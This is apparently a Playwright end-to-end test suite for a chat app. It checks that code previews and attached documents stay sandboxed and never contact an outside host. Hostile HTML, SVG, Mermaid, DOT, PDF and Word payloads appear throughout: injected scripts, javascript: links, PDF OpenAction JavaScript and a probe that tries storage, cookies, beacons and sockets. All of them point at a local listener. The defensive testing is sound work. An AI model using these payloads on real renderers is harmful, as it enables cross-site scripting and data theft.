import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import {
  bookFile,
  pdfFile,
  wordFile,
  wordParagraph,
} from '../../../src/ui/features/files/documents/testing.ts';
import { test as base, expect } from '../../fixtures.ts';

/** Somebody who listens, on TCP and UDP: any connection, any packet is told. */
interface Listener {
  readonly at: string;
  readonly port: number;
  readonly seen: () => number;
}

const test = base.extend<{ listener: Listener }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the pattern to know what a fixture needs
  listener: async ({}, use) => {
    let seen = 0;
    const server = createServer((socket) => {
      seen += 1;
      socket.destroy();
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    const packets = createSocket('udp4', () => {
      seen += 1;
    });
    packets.bind(port, '127.0.0.1');
    await use({ at: `http://127.0.0.1:${port}`, port, seen: () => seen });
    server.close();
    packets.close();
  },
});

/** What the browser says of what it refuses. */
const REFUSED = /Content Security Policy|sandboxed|Blocked|refused|Failed to load resource/i;

const hostilePage = (at: string) => `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${at}/refresh">
<link rel="stylesheet" href="${at}/sheet.css"><link rel="preload" as="image" href="${at}/preload">
<link rel="dns-prefetch" href="//secret.away.example"><link rel="preconnect" href="${at}">
<style>@import "${at}/import.css"; @font-face { font-family: f; src: url(${at}/font) } body { font-family: f; background: u\\72l(${at}/escaped) } h1 { background: url("${at}/css") }</style>
<script type="speculationrules">{"prefetch":[{"urls":["${at}/speculation"]}]}</script>
</head><body onload="fetch('${at}/onload')"><h1>Hostile page</h1>
<script>
  try { localStorage.setItem('owned', '1') } catch {}
  try { parent.document.title = 'owned' } catch {}
  try { top.location = '${at}/top' } catch {}
  fetch('${at}/fetch'); new Image().src = '${at}/beacon'; window.open('${at}/popup');
  new RTCPeerConnection({ iceServers: [{ urls: 'stun:${at.slice(7)}' }] }).createDataChannel('x');
  document.forms[0].submit();
</script>
<img src="${at}/img" srcset="${at}/srcset 2x" onerror="fetch('${at}/onerror')"><video poster="${at}/poster" src="${at}/video" autoplay></video>
<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">
<form action="${at}/form" method="post"><input name="a" value="1" autofocus><button id="post">Post</button></form>
<a id="top" href="${at}/link" target="_top">top</a><a id="blank" href="${at}/link" target="_blank">blank</a><a id="script" href="javascript:fetch('${at}/js')">js</a>
<svg><image href="${at}/svgimage"/><use href="${at}/use#x"/><script>fetch('${at}/svgscript')</script></svg>
<div><template shadowrootmode="open"><img src="${at}/shadow"></template></div>
</body></html>`;

const hostileSvg = (at: string) => `<?xml version="1.0"?><?xml-stylesheet href="${at}/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 90" onload="fetch('${at}/onload')"><title>Hostile drawing</title>
<style>@import "${at}/import.css"; rect { fill: url(${at}/fill#x) }</style>
<script>fetch('${at}/script'); parent.document.title = 'owned'; localStorage.setItem('owned', '1')</script>
<image href="${at}/image" width="9" height="9"/><use href="${at}/use#x"/><filter id="f"><feImage href="${at}/feimage"/></filter>
<rect width="90" height="90" filter="url(#f)"/><set attributeName="href" to="${at}/set"/>
<foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${at}/foreign" onerror="fetch('${at}/onerror')"/><iframe src="${at}/frame"/></body></foreignObject>
<a href="${at}/link" target="_top"><rect width="90" height="90"/></a></svg>`;

const hostileMermaid = (
  at: string,
) => `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "* { background: url(${at}/themecss) }", "fontFamily": "x; } @import '${at}/font'"}}%%
graph TD
  A["<img src='${at}/label' onerror='fetch(&quot;${at}/onerror&quot;)'>"] --> B
  B["<script>fetch('${at}/script')</script><iframe src='${at}/frame'></iframe>"] --> C
  C@{ img: "${at}/imageshape", label: "x", h: 60 }
  click A href "${at}/click" _top
  click B call alert("x")
  style C fill:url(${at}/style)`;

const hostileDot = (at: string) => `digraph { stylesheet="${at}/sheet.css"; node [image="${at}/image"];
  a [URL="javascript:fetch('${at}/url')", target="_top", label=<<TABLE><TR><TD><IMG SRC="${at}/img"/></TD></TR></TABLE>>];
  b [label="</text><script>fetch('${at}/script')</script>"]; a -> b [href="${at}/edge"] }`;

test('no preview runs a script, reads what is stored, or reaches anybody', async ({
  chat,
  page,
  listener,
  expectedErrors,
  request,
}) => {
  expectedErrors.push(REFUSED);
  const { at, seen } = listener;
  await chat.openNew(/^echo/);
  const blocks = [
    ['html', hostilePage(at)],
    ['svg', hostileSvg(at)],
    ['mermaid', hostileMermaid(at)],
    ['dot', hostileDot(at)],
  ].map(([language, code]) => `\`\`\`${language}\n${code}\n\`\`\``);
  const reply = await chat.ask(blocks.join('\n\n'), 2);
  const block = (language: string) => reply.getByRole('figure', { name: `Code, ${language}` });

  const html = block('html');
  await html.getByRole('button', { name: 'Preview' }).click();
  const still = html.frameLocator('iframe');
  await expect(still.getByRole('heading', { name: 'Hostile page' })).toBeVisible();
  await expect(html).toContainText(/Left out: \d+ scripts, \d+ addresses/);
  for (const press of ['#post', '#top', '#blank', '#script']) await still.locator(press).click();
  await html.getByRole('button', { name: 'Enlarge' }).click();
  const large = page.getByRole('dialog', { name: 'Page' });
  await expect(large.frameLocator('iframe').getByRole('heading', { name: 'Hostile page' })).toBeVisible();
  await page.keyboard.press('Escape');

  await expect(block('svg').getByRole('img', { name: 'Hostile drawing' })).toBeVisible();
  await block('svg').getByRole('img').click();
  for (const language of ['mermaid', 'dot'])
    await expect(
      block(language).getByRole('img').or(block(language).getByRole('status')).first(),
    ).toBeVisible();

  // What would go out by itself has had the time to.
  await page.waitForTimeout(2_000);
  expect(seen()).toBe(0);
  expect(page.context().pages()).toHaveLength(1);
  expect(page.url()).toContain(chat.url);
  expect(await page.title()).not.toBe('owned');
  expect(await page.evaluate(() => localStorage.getItem('owned'))).toBeNull();
  // It does see who comes.
  await request.get(at).catch(() => {});
  expect(seen()).toBe(1);
});

/** Actions and streams that lead elsewhere, in every place a PDF has for them. */
const hostilePdf = (at: string) =>
  Buffer.from(
    Buffer.from(pdfFile(['Hostile document']))
      .toString('latin1')
      .replace(
        '/Type/Catalog',
        `/Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\("${at}/js"\\);fetch\\("${at}/fetch"\\);)>>/AA<</WC<</S/URI/URI(${at}/wc)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\("${at}/submit"\\))>>]>>>>`,
      )
      .replace(
        '/Type/Page/',
        `/Type/Page/AA<</O<</S/SubmitForm/F(${at}/form)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${at}/link)>>>><</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/JS(fetch\\("${at}/media"\\))>>>>]/`,
      ),
    'latin1',
  );

const hostileWord = (at: string) =>
  wordFile(
    `${wordParagraph('Hostile letter')}<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "${at}/field"</w:instrText></w:r></w:p><w:p><w:hyperlink w:anchor="x" w:tgtFrame="${at}"><w:r><w:t>${at}/link</w:t></w:r></w:hyperlink></w:p>`,
  );

test('no document that is attached runs a script or reaches anybody, as text, as pictures, looked at', async ({
  chat,
  page,
  listener,
  expectedErrors,
}) => {
  expectedErrors.push(REFUSED);
  const { at, seen } = listener;
  const upload = (name: string, bytes: Uint8Array | string) => ({
    ...{ name, mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) },
  });
  await chat.openNew();
  await page.setInputFiles('input[type=file]', [
    upload('hostile.pdf', hostilePdf(at)),
    upload('hostile.docx', hostileWord(at)),
    upload(
      'hostile.epub',
      bookFile([`<h1>Hostile book</h1><script>fetch('${at}')</script><img src="${at}/img"/>`]),
    ),
    upload('hostile.html', hostilePage(at)),
    upload('hostile.svg', hostileSvg(at)),
  ]);
  const attached = page.getByRole('list', { name: 'Attached files' });
  await expect(attached.getByRole('button', { name: /^Open / })).toHaveCount(5);
  for (const [name, words] of [
    ['hostile.pdf', 'Hostile document'],
    ['hostile.docx', 'Hostile letter'],
    ['hostile.epub', 'Hostile book'],
    ['hostile.html', 'Hostile page'],
  ] as const) {
    await attached.getByRole('button', { name: `Open ${name}`, exact: true }).click();
    await expect(page.getByRole('dialog', { name })).toContainText(words);
    await page.keyboard.press('Escape');
  }
  await attached.getByRole('button', { name: 'Open hostile.svg' }).click();
  await expect(page.getByRole('dialog').getByRole('img', { name: 'Hostile drawing' })).toBeVisible();
  await page.keyboard.press('Escape');
  await attached.getByRole('button', { name: 'Attach the pages of hostile.pdf as pictures' }).click();
  await attached.getByRole('button', { name: 'Attach hostile.html as it is written' }).click();
  await expect(attached).toContainText('hostile page 1.jpg');
  await attached.getByRole('button', { name: 'Open hostile.html', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'hostile.html' });
  await dialog.getByRole('button', { name: 'Preview' }).click();
  await expect(dialog.frameLocator('iframe').getByRole('heading', { name: 'Hostile page' })).toBeVisible();
  expect(
    await page.evaluate(() => [localStorage.getItem('owned'), document.title.includes('owned')]),
  ).toEqual([null, false]);
  expect(seen()).toBe(0);
});

for (const renderer of ['mermaid', 'graphviz'] as const)
  test(`a script that got to run where ${renderer} draws reaches nothing`, async ({
    chat,
    page,
    listener,
    expectedErrors,
  }) => {
    expectedErrors.push(REFUSED);
    const { at, port } = listener;
    await chat.openNew();
    await page.evaluate(() => localStorage.setItem('secret', '1'));
    /** Runs in the document of the renderer: as its library, which is the only code it takes. */
    const attack = (url: string, udp: number, answer: (found: string[]) => void) => {
      const found: string[] = [];
      const tried = (name: string, what: () => unknown) => {
        try {
          const got = what();
          if (got instanceof Promise)
            got.then(
              () => found.push(name),
              () => {},
            );
          else if (got) found.push(name);
        } catch {}
      };
      tried('storage', () => localStorage);
      tried('cookies', () => document.cookie);
      tried('databases', () => indexedDB.open('x'));
      tried('parent', () => parent.document);
      tried('top', () => top?.location.href);
      tried('popup', () => window.open(`${url}/popup`));
      tried('peers', () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
        peer.createDataChannel('x');
        void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        return true;
      });
      tried('borrowed peers', () => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        return (frame.contentWindow as unknown as { RTCPeerConnection: unknown }).RTCPeerConnection;
      });
      tried('fetch', () => fetch(`${url}/fetch`, { mode: 'no-cors' }));
      tried('own server', () => fetch('/v1/stream/conversations?offset=-1'));
      tried('beacon', () => navigator.sendBeacon(`${url}/beacon`) && false);
      tried('import', () => import(/* @vite-ignore */ `${url}/import.js`));
      // biome-ignore lint/security/noGlobalEval: it must be refused
      tried('eval', () => globalThis.eval('1'));
      tried('socket', () => {
        const socket = new WebSocket(url.replace('http', 'ws'));
        socket.onopen = () => found.push('socket');
      });
      tried('image', () => {
        new Image().src = `${url}/image`;
      });
      tried('form', () => {
        const form = document.body.appendChild(document.createElement('form'));
        form.action = `${url}/form`;
        form.submit();
      });
      tried('inside', () => {
        document.body.insertAdjacentHTML(
          'beforeend',
          `<iframe src="${url}/frame"></iframe><link rel="stylesheet" href="${url}/sheet">`,
        );
      });
      setTimeout(() => {
        answer(found);
        if ('document' in globalThis) location.href = `${url}/away`;
      }, 2_500);
    };
    const run = `(${attack.toString()})('${at}', ${port}, (found) => `;
    const code = {
      mermaid: `${run} parent.postMessage({ found }, '*'))`,
      // In a worker, which passes on what is said there.
      graphviz: `${run} self.postMessage({ found })); export const Graphviz = { load: () => new Promise(() => {}) }`,
    };
    const found = await page.evaluate(
      async ({ name, library }) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts');
        frame.src = `/frame/${name}`;
        const there = new Promise((ready) => window.addEventListener('message', ready, { once: true }));
        document.body.append(frame);
        await there;
        const { port1, port2 } = new MessageChannel();
        const told = new Promise<string[]>((tell) => {
          const listen = ({ data }: MessageEvent) => data?.found && tell(data.found);
          window.addEventListener('message', listen);
          port1.onmessage = listen;
        });
        frame.contentWindow?.postMessage(library, '*', [port2]);
        return told;
      },
      { name: renderer, library: code[renderer] },
    );
    expect(found).toEqual([]);
    await page.waitForTimeout(1_000);
    expect(listener.seen()).toBe(0);
  });
